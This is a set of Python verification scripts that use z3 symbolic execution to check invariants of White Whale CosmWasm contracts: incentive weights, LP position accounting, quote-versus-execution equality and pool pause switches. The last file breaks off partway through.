"""C13 — incentive rewards: weights add up; claims are bounded, single and as quoted."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_inc import *
from c11 import STUBS

CW = 'incentive::weight::calculate_weight'
AMAX = 2**100


def weight_fn(ck, prog):
    # single call: w >= amount, error exactly outside [86400, 31556926]
    def body1(it):
        c = it.ctx
        return run_entry(it, CW, c.sym('dur', 64), U128(c.sym('amt', 128)))
    d, a = z3.Int('dur'), z3.Int('amt')
    for p in ck.explore(prog, body1, 'weight.single'):
        ck.sample(dict(fn='weight::calculate_weight', outcome=p.short()))
        inr = z3.And(d >= 86400, d <= 31556926)
        if p.ok:
            w = p.value.fields[0].fields[0]
            ck.oblige('C13.w.ge_amount', p, z3.And(a <= AMAX, w < a), 'weight >= amount')
            ck.oblige('C13.w.range_ok', p, z3.Not(inr), 'a weight is only computed for durations in [1 day, 1 year]')
        elif p.err:
            e = deref(p.value.fields[0])
            if isinstance(e, Enum) and e.variant == 'InvalidWeight': ck.oblige('C13.w.range_error', p, inr, 'InvalidWeight only outside the allowed range')
            else: ck.oblige('C13.w.no_other_error', p, z3.And(inr, a <= AMAX), 'no other error for amounts up to 2^100', site=p.short())
        else:
            ck.oblige('C13.w.no_abort', p, z3.And(inr, a <= AMAX), 'no abort for amounts up to 2^100', site=p.short())
    # two calls: monotone in amount (same duration) and in duration (same amount); super-additivity witness (the root of the close defect)
    for which in ('amount', 'duration'):
        def body2(it, which=which):
            c = it.ctx
            if which == 'amount':
                d1 = d2 = c.sym('d', 64); a1, a2 = c.sym('a1', 128), c.sym('a2', 128)
            else:
                a1 = a2 = c.sym('a', 128); d1, d2 = c.sym('d1', 64), c.sym('d2', 64)
            for v in {d1, d2}: c.assume(v >= 86400); c.assume(v <= 31556926)
            for v in {a1, a2}: c.assume(v <= AMAX)
            r1 = run_entry(it, CW, d1, U128(a1)); r2 = run_entry(it, CW, d2, U128(a2))
            if r1.variant != 'Ok' or r2.variant != 'Ok': raise PathPruned()
            return OK(Agg('tuple', [r1.fields[0].fields[0], r2.fields[0].fields[0]]))
        from engine.core import MODELS
        def rec_mul(it, a, c):
            if not hasattr(it, 'extra'): it.extra = {}
            it.extra.setdefault('muls', []).append(dup(deref(a[1])).fields[0])
            return MODELS['cosmwasm_std::Decimal256::checked_mul'](it, a, c)
        for p in ck.explore(prog, body2, 'weight.pair.' + which, stubs={'cosmwasm_std::Decimal256::checked_mul': rec_mul}):
            if not p.ok: continue
            w1, w2 = p.value.fields[0].fields
            if which == 'amount':
                ck.oblige('C13.w.mono_amount', p, z3.And(z3.Int('a1') <= z3.Int('a2'), w1 > w2), 'weight non-decreasing in amount (same duration)')
            else:
                # lemma chaining: the duration factor F(d) (last multiplier of each call) is itself monotone; then the weight is
                muls = p.extra.get('muls', [])
                F1, F2 = muls[len(muls) // 2 - 1], muls[-1]
                D1, D2 = z3.Int('d1'), z3.Int('d2')
                v0 = ck.oblige('C13.w.mono_duration.square', p, z3.And(D1 <= D2, D1 * D1 > D2 * D2), 'squaring is monotone on the allowed durations (lemma for the multiplier)')
                sq = [z3.Implies(D1 <= D2, D1 * D1 <= D2 * D2)] if v0 == 'unsat' else []
                v = ck.oblige('C13.w.mono_duration.factor', p, z3.And(D1 <= D2, F1 > F2), 'the duration multiplier is non-decreasing in the duration', lemmas=sq, abstract=True)
                lem = [z3.Implies(z3.Int('d1') <= z3.Int('d2'), F1 <= F2)] if v == 'unsat' else []
                ck.oblige('C13.w.mono_duration', p, z3.And(z3.Int('d1') <= z3.Int('d2'), w1 > w2), 'weight non-decreasing in unbonding duration (same amount)', lemmas=lem)


def weights_world(it, lp_kind='native'):
    st = positions_world(it, setup_inc(it, lp_kind), n_open=1, n_closed=0)
    c = it.ctx
    rest = c.sym('rest_weight', 128); c.assume(rest < 2**120)
    # Inv: GLOBAL_WEIGHT = sum of ADDRESS_WEIGHT (alice + bob + everybody else)
    c.assume(st['gw'] == st['aw'] + st['bw'] + rest)
    st['rest'] = rest
    return st


def gsum_steps(ck, prog):
    """one step of open / expand / close from an arbitrary state with GLOBAL = sum of address weights."""
    for op in ('open', 'expand', 'close', 'open.recv', 'expand.recv'):
        recv = op.endswith('.recv'); op0 = op; op = op.split('.')[0]
        def body(it, op=op, recv=recv):
            c = it.ctx
            st = weights_world(it)
            A = c.sym('amount', 128); D = c.sym('duration', 64); c.assume(A <= AMAX)
            it.extra = dict(st=st, A=A, D=D)
            if op == 'close': msg = it.mkv(IX, 'ClosePosition', unbonding_duration=D); funds = []
            else:
                msg = it.mkv(IX, 'OpenPosition' if op == 'open' else 'ExpandPosition', amount=U128(A), unbonding_duration=D, receiver=SOME(Str('bob')) if recv else NONE())
                funds = [COIN(st['lp'], A)]
            return enter(it, 'incentive', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', funds), msg)
        n = 0
        for p in ck.explore(prog, body, 'gsum.' + op0, stubs=STUBS, validate=(op != 'close')):
            if not p.ok: continue
            n += 1
            st = p.extra['st']
            G2 = p.world.storage['global_weight'].fields[0]; a2 = weight_of(p, 'alice'); b2 = weight_of(p, 'bob')
            if op == 'close':
                # carve-out: the subtraction saturates on the address weight but not on the global weight
                sat_region = a2 == 0
                ck.oblige('C13.global_eq_sum.step.close.saturating', p, z3.And(G2 != a2 + b2 + st['rest'], st['aw'] < st['gw'] - G2),
                          'close subtracts weight(total amount) with saturating_sub: when that exceeds the address weight the global weight drops by more than the address weight does',
                          site='close_position saturating_sub')
                ck.oblige('C13.global_eq_sum.step.close', p, z3.And(G2 != a2 + b2 + st['rest'], z3.Not(st['aw'] < st['gw'] - G2)), 'GLOBAL_WEIGHT = sum of ADDRESS_WEIGHT after close')
            else:
                ck.oblige('C13.global_eq_sum.step.' + op0, p, G2 != a2 + b2 + st['rest'], 'GLOBAL_WEIGHT = sum of ADDRESS_WEIGHT after ' + op0)
            if recv:
                ck.oblige('C13.weights.others.' + op0, p, a2 != st['aw'], 'a deposit for a receiver leaves the sender\'s own weight alone')
                ck.oblige('C13.weights.receiver.' + op0, p, b2 - st['bw'] != G2 - st['gw'], 'the receiver\'s weight grows by exactly what the global weight grows')
            else:
                ck.oblige('C13.weights.others.' + op0, p, b2 != st['bw'], 'nobody else\'s weight changes')
        ck.require(n >= 1, 'gsum.%s: no Ok path' % op0)


def gsum_history(ck, prog):
    """bounded history from a consistent state: open(a, D); expand(b, D); close(D) by one user.  GLOBAL = sum afterwards?"""
    def body(it):
        c = it.ctx
        st = setup_inc(it, 'native')
        w = it.world
        rest = c.sym('rest_weight', 128); c.assume(rest < 2**120)
        w.map('open_positions', []); w.map('closed_positions', []); w.map('address_weight', []); w.map('address_weight_snapshot', [])
        w.map('global_weight_snapshot', []); w.map('last_claimed_epoch', []); w.map('flows', []); w.item('flow_counter', 0)
        w.item('global_weight', U128(rest))
        a, b, D = c.sym('a', 128, lo=1), c.sym('b', 128, lo=1), c.sym('D', 64)
        c.assume(a <= AMAX); c.assume(b <= AMAX)
        env = mk_env(it, c.sym('now', 64))
        for msg, amt in ((it.mkv(IX, 'OpenPosition', amount=U128(a), unbonding_duration=D, receiver=NONE()), a),
                         (it.mkv(IX, 'ExpandPosition', amount=U128(b), unbonding_duration=D, receiver=NONE()), b),
                         (it.mkv(IX, 'ClosePosition', unbonding_duration=D), None)):
            r = enter(it, 'incentive', 'execute', env, mk_info('alice', [COIN(st['lp'], amt)] if amt is not None else []), msg)
            if r.variant != 'Ok': raise PathPruned()
        it.extra = dict(rest=rest)
        return OK(UNIT())
    n = 0
    for p in ck.explore(prog, body, 'gsum.history3', stubs=STUBS, validate=False):
        if p.kind != 'ret': continue
        n += 1
        G = p.world.storage['global_weight'].fields[0]; aw = weight_of(p, 'alice')
        ck.oblige('C13.global_eq_sum.depth3', p, G != aw + p.extra['rest'], 'after open; expand; close the global weight equals the sum of address weights',
                  site='weight(a)+weight(b) < weight(a+b)')
    ck.require(n >= 1, 'history open;expand;close: no complete path')


def main():
    ck = Check('C13')
    prog = ck.program('incentive', 'white_whale_std')
    weight_fn(ck, prog)
    gsum_steps(ck, prog)
    gsum_history(ck, prog)
    for mod in ('c13_claim', 'c13_snapshot'):
        try: __import__(mod).run(ck)
        except ImportError: ck.outside.append(mod + ' part not built')
    ck.bounds.update(amounts='amounts up to 2^100, durations full range', history='depth 3 (open; expand; close) for one user + symbolic rest')
    ck.stubs.add('incentive::queries::get_rewards -> arbitrary answer inside close_position (weight obligations)')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
