"""C14 — quotes are honest: simulation equals execution (differential execution of two real entry points in one symbolic state)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_pool import *
import lib_vault as LV

QM = PN + 'pair::QueryMsg'


def attr_num(resp, key):
    for a in attrs(resp):
        k, v = deref(a.fields[0]), deref(a.fields[1])
        if isinstance(k, Str) and k.s == key:
            if v.num is not None: return v.num[1]
            if v.s is not None and v.s.isdigit(): return int(v.s)
    return None


def pair_sim_vs_exec(ck, prog, cfg, oi, pair_type='cp', stubs=None, amp=None, decimals=(6, 6), native_pred=None, nice=()):
    kinds = KIND_CFGS[cfg]; ai = 1 - oi
    def body(it):
        c = it.ctx
        st = setup_pair(it, kinds, pair_type, amp=amp(c) if callable(amp) else amp, decimals=decimals)
        off = c.sym('offer', 128)
        common_inv(c, st)
        # 1. the quote, in the state before the offer arrives
        q = enter(it, CP, 'query', mk_env(it, 10**18), None, it.mkv(QM, 'Simulation', offer_asset=asset(it, kinds[oi], oi, off)))
        if q.variant != 'Ok': raise PathPruned()
        sim = q.fields[0].fields[0].payload
        # 2. the same offer executed: the offer is in the pool's balance when the contract runs (attached funds / cw20 Send)
        w = it.world
        c.assume(st['b'][oi] + off < 2**128)
        if kinds[oi] == 'native': w.bank = [(a, d, x + off if same(d, aname(kinds, oi)) else x) for a, d, x in w.bank]
        else: w.cw20 = [(t, h, x + off if same(t, aname(kinds, oi)) else x) for t, h, x in w.cw20]
        ms = SOME(DEC(5 * 10**17)); to_v = SOME(Str('recv'))
        if kinds[oi] == 'native':
            msg = it.mkv(XM, 'Swap', offer_asset=asset(it, kinds[oi], oi, off), belief_price=NONE(), max_spread=ms, to=to_v)
            inf = mk_info('trader', [COIN(aname(kinds, oi), off)])
        else:
            hook = it.mkv(PN + 'pair::Cw20HookMsg', 'Swap', belief_price=NONE(), max_spread=ms, to=to_v)
            msg = it.mkv(XM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('trader'), amount=U128(off), msg=BIN(hook)))
            inf = mk_info(aname(kinds, oi), [])
        it.extra = dict(st=st, sim=sim, offer=off)
        return enter(it, CP, 'execute', mk_env(it, 10**18), inf, msg)
    tag = 'pair.%s.%s.o%d' % (pair_type, cfg, oi) + ('' if tuple(decimals) == (6, 6) else '.d%d_%d' % tuple(decimals))
    kw = dict(native_pred=native_pred, nice=list(nice)) if native_pred else {}
    paths = ck.explore(prog, body, tag, stubs=stubs, validate=stubs is None)
    n = 0
    for p in paths:
        ck.sample(dict(diff='pair query(Simulation) vs execute(Swap)', cfg=cfg, offer_index=oi, pair_type=pair_type, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; sim = p.extra['sim']
        g = lambda name: [x for x, f in zip(sim.fields, prog.adts[sim.name]['variants'][0]['fields']) if f[0] == name][0].fields[0]
        eff = effects(resp_of(p), PAIR); A = aname(kinds, ai); resp = resp_of(p)
        nf = ledger_after(p, 'collected_protocol_fees')
        ck.oblige('C14.pair.sim_eq_exec.return.' + tag, p, total(eff, 'send', A) != g('return_amount'), 'the transfer equals the quoted return', **kw)
        ck.oblige('C14.pair.sim_eq_exec.protocol.' + tag, p, nf[ai] - st['f'][ai] != g('protocol_fee_amount'), 'the recorded protocol fee equals the quoted one', **kw)
        ck.oblige('C14.pair.sim_eq_exec.burn.' + tag, p, total(eff, 'burn', A) != g('burn_fee_amount'), 'the burned amount equals the quoted burn fee', **kw)
        for key in ('spread_amount', 'swap_fee_amount', 'return_amount', 'protocol_fee_amount', 'burn_fee_amount'):
            v = attr_num(resp, key)
            ck.oblige('C14.pair.sim_eq_exec.attr.%s.%s' % (key, tag), p, True if v is None else (v != g(key)), 'the %s recorded in the response equals the quoted one' % key, **kw)
    ck.require(n >= 1, tag + ': no Ok path through quote + execution')


def vault_share_vs_withdraw(ck, progv, kind):
    k = kind[0]; A = LV.ASSET_NAME[kind]
    def body(it):
        c = it.ctx
        st = LV.setup_vault(it, kind)
        amt = c.sym('amount', 128)
        c.assume(st['F'] <= st['B']); c.assume(amt <= st['S'])
        q = enter(it, 'vault', 'query', mk_env(it, 10**18), None, it.mkv(LV.VN + 'QueryMsg', 'Share', amount=U128(amt)))
        if q.variant != 'Ok': raise PathPruned()
        hook = it.mkv(LV.VN + 'Cw20HookMsg', 'Withdraw')
        msg = it.mkv(LV.VX, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('holder'), amount=U128(amt), msg=BIN(hook)))
        it.extra = dict(st=st, quoted=q.fields[0].fields[0].payload.fields[0])
        return enter(it, 'vault', 'execute', mk_env(it, 10**18), mk_info(LV.VLP, []), msg)
    n = 0
    for p in ck.explore(progv, body, 'vault.share_vs_withdraw.' + k):
        if not p.ok: continue
        n += 1
        paid = total(effects(resp_of(p), LV.VAULT), 'send', A)
        ck.oblige('C14.vault.share_eq_withdraw.' + k, p, paid != p.extra['quoted'], 'the share query equals what a withdrawal of that many shares pays')
    ck.require(n >= 1, 'vault share vs withdraw: no Ok path')


def main():
    ck = Check('C14')
    prog = ck.program('terraswap_pair', 'white_whale_std')
    for cfg, oi in (('nn', 0), ('nc', 0), ('nc', 1), ('cc', 0)):
        pair_sim_vs_exec(ck, prog, cfg, oi)
    progv = ck.program('vault', 'white_whale_std')
    for kind in ('native', 'cw20'): vault_share_vs_withdraw(ck, progv, kind)
    for mod in ('c14_stable', 'c14_trio', 'c14_router'):
        try:
            __import__(mod).run(ck)
        except ImportError:
            ck.outside.append(mod + ' part not built')
    ck.bounds.update(pools='constant-product pair in 4 kind/direction configurations', widths='all balances, ledgers, offers full u128')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
