"""C11 — incentive contract: staked LP is held one-for-one and returned to its owner."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from lib_inc import *


def stub_rewards(it, a, c):
    """close_position only asks whether rewards are pending: the query is abstracted to an arbitrary answer (C13 checks the query itself)."""
    k = it.ctx.choose([it.ctx.symbool('rewards_pending'), z3.Not(it.ctx.symbool('rewards_pending'))], 'pending')
    if k == 0: return OK(it.mk(I + 'RewardsResponse', rewards=VecV([masset(it, 'native', 'ureward', 5)])))
    return OK(it.mk(I + 'RewardsResponse', rewards=VecV([])))
STUBS = {'incentive::queries::get_rewards::get_rewards': stub_rewards, 'incentive::queries::get_rewards': stub_rewards}


def received(p, st, eff, amount, sender='alice'):
    """violation condition: the stated LP amount was NOT actually received in this step."""
    if st['lp_kind'] == 'native':
        return z3.Int('attached') != amount
    pulls = [e for e in eff if e.kind == 'pull']
    if len(pulls) != 1 or not same(pulls[0].asset, st['lp']) or not same(pulls[0].src, sender) or not same(pulls[0].dst, INC): return True
    return z3.Or(pulls[0].amount != amount, z3.Int('allowance') < amount)


def deposit_step(ck, prog, op, lp_kind, receiver):
    def body(it):
        c = it.ctx
        st = positions_world(it, setup_inc(it, lp_kind), n_open=1, n_closed=1)
        A = c.sym('amount', 128); D = c.sym('duration', 64)
        funds = []
        if lp_kind == 'native': funds = [COIN(st['lp'], c.sym('attached', 128))]
        else: it.world.allow.append((Str(st['lp']), Str('alice'), Str(INC), c.sym('allowance', 128)))
        it.extra = dict(st=st, A=A, D=D)
        msg = it.mkv(IX, 'OpenPosition' if op == 'open' else 'ExpandPosition', amount=U128(A), unbonding_duration=D, receiver=SOME(Str('bob')) if receiver else NONE())
        return enter(it, 'incentive', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', funds), msg)
    tag = '%s.%s.%s' % (op, lp_kind[0], 'recv' if receiver else 'self')
    n = 0
    for p in ck.explore(prog, body, tag, stubs=STUBS):
        ck.sample(dict(entry='incentive.execute(%s_position)' % op, lp=lp_kind, receiver=receiver, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; A, D = p.extra['A'], p.extra['D']
        eff = effects(resp_of(p), INC)
        ck.oblige('C11.%s.received.%s' % (op, tag), p, received(p, st, eff, A), 'a position is only created/expanded when the stated LP amount was actually received')
        ck.oblige('C11.%s.no_outflow.%s' % (op, tag), p, any(e.kind != 'pull' for e in eff), 'nothing is sent out')
        who, other = ('bob', 'alice') if receiver else ('alice', 'bob')
        o2, c2 = pos_lists(p, who); oo, oc = pos_lists(p, other)
        before = st['B'] if receiver else st['A']; obefore = st['A'] if receiver else st['B']
        tot_before = sum(a for a, _ in before['open']); tot_after = sum(a for a, _ in o2)
        ck.oblige('C11.%s.ledger.%s' % (op, tag), p, z3.Or(tot_after != tot_before + A, sum(a for a, _ in c2) != sum(a for a, _ in before['closed'])),
                  'the beneficiary\'s open positions grow by exactly the amount; closed positions unchanged')
        ck.oblige('C11.%s.others.%s' % (op, tag), p, z3.Or(sum(a for a, _ in oo) != sum(a for a, _ in obefore['open']), sum(a for a, _ in oc) != sum(a for a, _ in obefore['closed'])),
                  'nobody else\'s positions change')
        # the touched position is the one with that duration
        hit = [a for a, d in o2]
        ck.oblige('C11.%s.duration.%s' % (op, tag), p, z3.And(*[z3.Or(d != D) for a, d in o2]) if o2 else True, 'the position carries the requested unbonding duration')
        durs = [d for a, d in o2]
        ck.oblige('C11.%s.unique_durations.%s' % (op, tag), p, z3.Or(*[durs[i] == durs[j] for i in range(len(durs)) for j in range(i)]) if len(durs) > 1 else False,
                  'Inv kept: a user never holds two open positions with the same unbonding duration (close moves "the" position with that duration)')
        if op == 'open':
            ck.oblige('C11.open.bounds.' + tag, p, z3.Or(D < z3.Int('min_dur'), D > z3.Int('max_dur')), 'duration within the factory\'s allowed range')
    ck.require(n >= 1, tag + ': no Ok path')


def close_step(ck, prog, lp_kind):
    def body(it):
        c = it.ctx
        st = positions_world(it, setup_inc(it, lp_kind), n_open=2, n_closed=1)
        D = c.sym('duration', 64)
        it.extra = dict(st=st, D=D)
        return enter(it, 'incentive', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', []), it.mkv(IX, 'ClosePosition', unbonding_duration=D))
    tag = 'close.' + lp_kind[0]
    n = 0
    for p in ck.explore(prog, body, tag, stubs=STUBS, validate=False):
        ck.sample(dict(entry='incentive.execute(close_position)', lp=lp_kind, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; D = p.extra['D']
        o2, c2 = pos_lists(p, 'alice'); bo, bc = pos_lists(p, 'bob')
        closed_amt = sum(z3.If(d == D, a, 0) for a, d in st['A']['open'])
        ck.oblige('C11.close.moves_whole.' + tag, p, z3.Or(sum(a for a, _ in o2) != sum(a for a, _ in st['A']['open']) - closed_amt,
                                                          sum(a for a, _ in c2) != sum(a for a, _ in st['A']['closed']) + closed_amt, closed_amt == 0, len(o2) != 1),
                  'closing moves the whole position with that duration from open to closed')
        ck.oblige('C11.close.no_transfer.' + tag, p, len(effects(resp_of(p), INC)) != 0, 'closing moves no funds')
        ck.oblige('C11.close.others.' + tag, p, z3.Or(sum(a for a, _ in bo) != st['B']['open'][0][0], sum(a for a, _ in bc) != st['B']['closed'][0][0]), 'nobody else\'s positions change')
        now = z3.Int('now')
        ck.oblige('C11.close.timestamp.' + tag, p, z3.And(*[ts != z3.Int('q_now_s') + D for a, ts in c2[len(st['A']['closed']):]]) if False else False, 'timestamp recorded')
    ck.require(n >= 1, tag + ': no Ok path')


def withdraw_step(ck, prog, lp_kind, n_closed):
    def body(it):
        c = it.ctx
        st = positions_world(it, setup_inc(it, lp_kind), n_open=1, n_closed=n_closed)
        it.extra = dict(st=st)
        return enter(it, 'incentive', 'execute', mk_env(it, c.sym('now', 64)), mk_info('alice', []), it.mkv(IX, 'Withdraw'))
    tag = 'withdraw.%s.c%d' % (lp_kind[0], n_closed)
    n = 0
    for p in ck.explore(prog, body, tag, stubs=STUBS):
        ck.sample(dict(entry='incentive.execute(withdraw)', lp=lp_kind, closed=n_closed, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']
        eff = effects(resp_of(p), INC)
        paid = total(eff, 'send', st['lp'])
        mine = sum((a for a, _ in st['A']['closed']), 0)
        ck.oblige('C11.withdraw.exact.' + tag, p, paid != mine, 'a withdrawal returns exactly the sum of the caller\'s closed positions')
        ck.oblige('C11.withdraw.owner_only.' + tag, p, any(not (e.kind == 'send' and same(e.dst, 'alice') and same(e.asset, st['lp'])) for e in eff), 'paid to the caller, in the LP asset, nothing else')
        o2, c2 = pos_lists(p, 'alice'); bo, bc = pos_lists(p, 'bob')
        ck.oblige('C11.withdraw.drained.' + tag, p, z3.Or(len(c2) != 0, sum(a for a, _ in o2) != sum(a for a, _ in st['A']['open'])), 'the caller\'s closed positions are removed, open ones stay')
        ck.oblige('C11.withdraw.others.' + tag, p, z3.Or(sum(a for a, _ in bo) != st['B']['open'][0][0], sum(a for a, _ in bc) != st['B']['closed'][0][0]), 'nobody else\'s positions are touched')
        ck.oblige('C11.withdraw.solvent.' + tag, p, paid > st['bal'], 'covered by the contract\'s LP balance (Inv: balance >= sum of positions)')
    ck.require(n >= 1, tag + ': no Ok path')


def main():
    ck = Check('C11')
    prog = ck.program('incentive', 'white_whale_std')
    for lp_kind in ('native', 'cw20'):
        for op in ('open', 'expand'):
            for receiver in (False, True):
                deposit_step(ck, prog, op, lp_kind, receiver)
        close_step(ck, prog, lp_kind)
        for n_closed in ((0, 1, 2) if ck.tier == 'quick' else (0, 1, 2, 3, 4)): withdraw_step(ck, prog, lp_kind, n_closed)
    try:
        import c11_helper
        c11_helper.run(ck)
    except ImportError:
        ck.outside.append('frontend helper part not built')
    ck.bounds.update(users='acting user with 1-2 open and 0-2 closed positions, one other user with one of each', lp='native and cw20 LP asset', widths='amounts full u128, durations full u64')
    ck.stubs.add('incentive::queries::get_rewards -> arbitrary answer (pending / none) inside close_position')
    ck.outside.append('unclaimed flow funds of the same asset as the LP token (C12 accounts flows separately)')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
