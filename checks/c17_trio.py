"""C17 part: three-asset pool pause switches (every entry path, all 2^3 combinations at once) and 'the operator's switch setting is what
gets stored' for pair, trio (alone and together with every other option of UpdateConfig, the amplification ramp included) and vault."""
import z3
from lib_trio import *
import lib_pool as LPO
import lib_vault as LV


def is_disabled_err(p):
    if not p.err: return False
    e = deref(p.value.fields[0])
    return isinstance(e, Enum) and e.variant == 'OperationDisabled'


def tsym(c): return (c.symbool('t_withdrawals'), c.symbool('t_deposits'), c.symbool('t_swaps'))


def trio_paths(ck, prog):
    tw, td, ts = z3.Bool('t_withdrawals'), z3.Bool('t_deposits'), z3.Bool('t_swaps')
    kinds = ('native', 'native', 'cw20')
    cases = [('swap.native', lambda it: tswap_body(kinds, 0, 1, toggles=tsym(it.ctx))(it), ts),
             ('swap.cw20_hook', lambda it: tswap_body(kinds, 2, 0, toggles=tsym(it.ctx))(it), ts),
             ('provide', lambda it: tprovide_body(kinds, toggles=tsym(it.ctx))(it), td),
             ('provide.first', lambda it: tprovide_body(kinds, first=True, toggles=tsym(it.ctx))(it), td),
             ('withdraw.cw20_hook', lambda it: twithdraw_body(kinds, toggles=tsym(it.ctx))(it), tw)]
    for name, body, bit in cases:
        seen_ok = seen_dis = False
        for p in ck.explore(prog, body, 'trio.' + name, stubs=KERNEL_STUBS, validate=False):
            ck.sample(dict(entry='trio.' + name, outcome=p.short()))
            if p.ok:
                seen_ok = True
                ck.oblige('C17.trio.%s.off_rejects' % name, p, z3.Not(bit), 'accepted only while the switch for this operation is on')
            elif is_disabled_err(p):
                seen_dis = True
                ck.oblige('C17.trio.%s.on_not_disabled' % name, p, bit, 'the "disabled" rejection only when this operation\'s own switch is off, whatever the other switches')
                ck.oblige('C17.trio.%s.reject_no_write' % name, p, len(p.world.writes) != 0, 'a paused operation writes nothing')
        ck.require(seen_ok and seen_dis, 'trio.%s: expected both accepted and disabled paths' % name)
    # the rejections of a paused operation, natively validated (no kernel involved on those paths)
    for name, body, bit in cases:
        def off(it, body=body, name=name):
            c = it.ctx
            which = {'swap': 2, 'provide': 1, 'withdraw': 0}[name.split('.')[0]]
            tg = [c.symbool('t_withdrawals'), c.symbool('t_deposits'), c.symbool('t_swaps')]; tg[which] = False
            b = {'swap.native': lambda: tswap_body(kinds, 0, 1, toggles=tuple(tg)), 'swap.cw20_hook': lambda: tswap_body(kinds, 2, 0, toggles=tuple(tg)), 'provide': lambda: tprovide_body(kinds, toggles=tuple(tg)),
                 'provide.first': lambda: tprovide_body(kinds, first=True, toggles=tuple(tg)), 'withdraw.cw20_hook': lambda: twithdraw_body(kinds, toggles=tuple(tg))}[name]()
            return b(it)
        for p in ck.explore(prog, off, 'trio.%s.switched_off' % name):
            ck.oblige('C17.trio.%s.switched_off' % name, p, p.ok or len(p.world.writes) != 0, 'with its switch off the operation is rejected and nothing is written (natively validated)')


def trio_instantiate(ck, prog):
    def inst(it):
        c = it.ctx; it.world.contract = TRIO
        pf = it.mk(TM + 'PoolFee', protocol_fee=tfee(it, c.sym('fp', 128)), swap_fee=tfee(it, c.sym('fs', 128)), burn_fee=tfee(it, c.sym('fb', 128)))
        msg = it.mk(TM + 'InstantiateMsg', asset_infos=Agg('array', [tinfo(it, 'native', i) for i in range(3)]), token_code_id=5, asset_decimals=Agg('array', [6, 6, 6]),
                    pool_fees=pf, fee_collector_addr=Str('collector'), amp_factor=c.sym('amp', 64), token_factory_lp=False)
        return enter(it, T3, 'instantiate', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('factory', []), msg)
    n = 0
    for p in ck.explore(prog, inst, 'trio.instantiate'):
        if not p.ok: continue
        n += 1
        t = fld(prog, fld(prog, p.world.storage['config'], 'feature_toggle'), None)
        ck.oblige('C17.trio.instantiate.all_on', p, not all(x is True for x in t), 'a new pool starts with everything enabled')
    ck.require(n >= 1, 'trio instantiate: no Ok path')


def fld(prog, v, name):
    if name is None: return list(v.fields)
    for i, f in enumerate(prog.adts[v.name]['variants'][0]['fields']):
        if f[0] == name: return v.fields[i]
    raise KeyError(name)


def operator_sets(ck, prog3, progp, progv):
    """UpdateConfig by the owner with feature switches (alone or with every other option): exactly those switches are stored."""
    def want(c): return (c.symbool('w_withdrawals'), c.symbool('w_deposits'), c.symbool('w_swaps'))
    W = [z3.Bool('w_withdrawals'), z3.Bool('w_deposits'), z3.Bool('w_swaps')]
    def differs(stored):
        return z3.Or(*[zbool(s) != w for s, w in zip(stored, W)])
    # trio: with / without the other options (owner, collector, fees, ramp)
    for others in (False, True):
        def body(it, others=others):
            c = it.ctx
            st = setup_trio(it, toggles=tsym(c))
            ia, fa, ib, fbk = st['amps']; h = c.sym('height', 64)
            for v in (ia, fa): c.assume(v >= 1); c.assume(v <= 10**6)
            c.assume(ib <= h); c.assume(ib <= fbk)
            ft = it.mk(TM + 'FeatureToggle', withdrawals_enabled=want(c)[0], deposits_enabled=want(c)[1], swaps_enabled=want(c)[2])
            if others:
                pf = it.mk(TM + 'PoolFee', protocol_fee=tfee(it, c.sym('nfp', 128)), swap_fee=tfee(it, c.sym('nfs', 128)), burn_fee=tfee(it, c.sym('nfb', 128)))
                msg = it.mkv(TXM, 'UpdateConfig', owner=SOME(Str('owner2')), fee_collector_addr=SOME(Str('collector2')), pool_fees=SOME(pf), feature_toggle=SOME(ft),
                             amp_factor=SOME(it.mk(TM + 'RampAmp', future_a=c.sym('new_amp', 64), future_block=c.sym('new_block', 64))))
            else:
                msg = it.mkv(TXM, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=NONE(), feature_toggle=SOME(ft), amp_factor=NONE())
            return enter(it, T3, 'execute', mk_env(it, 10**18, height=h), mk_info('owner', []), msg)
        n = 0; tag = 'all_options' if others else 'alone'
        for p in ck.explore(prog3, body, 'trio.update_config.toggle.' + tag):
            if not p.ok: continue
            n += 1
            cfg = p.world.storage['config']
            ck.oblige('C17.trio.operator_sets.' + tag, p, differs(fld(prog3, fld(prog3, cfg, 'feature_toggle'), None)), 'the stored switches are exactly the ones the operator sent')
            if others:
                ck.oblige('C17.trio.operator_sets.rest.' + tag, p, z3.Or(not same(fld(prog3, cfg, 'owner').fields[0], 'owner2'), not same(fld(prog3, cfg, 'fee_collector_addr').fields[0], 'collector2'),
                                                                          fld(prog3, cfg, 'future_amp') != z3.Int('new_amp')), 'and the other options of the same message are applied too')
        ck.require(n >= 1, 'trio update_config toggles (%s): no Ok path' % tag)
    # pair
    for others in (False, True):
        def bodyp(it, others=others):
            c = it.ctx
            LPO.setup_pair(it, ('native', 'cw20'), toggles=tsym(c))
            ft = it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=want(c)[0], deposits_enabled=want(c)[1], swaps_enabled=want(c)[2])
            if others:
                pf = it.mk(PN + 'pair::PoolFee', protocol_fee=LPO.fee(it, c.sym('nfp', 128)), swap_fee=LPO.fee(it, c.sym('nfs', 128)), burn_fee=LPO.fee(it, c.sym('nfb', 128)))
                msg = it.mkv(LPO.XM, 'UpdateConfig', owner=SOME(Str('owner2')), fee_collector_addr=SOME(Str('collector2')), pool_fees=SOME(pf), feature_toggle=SOME(ft))
            else:
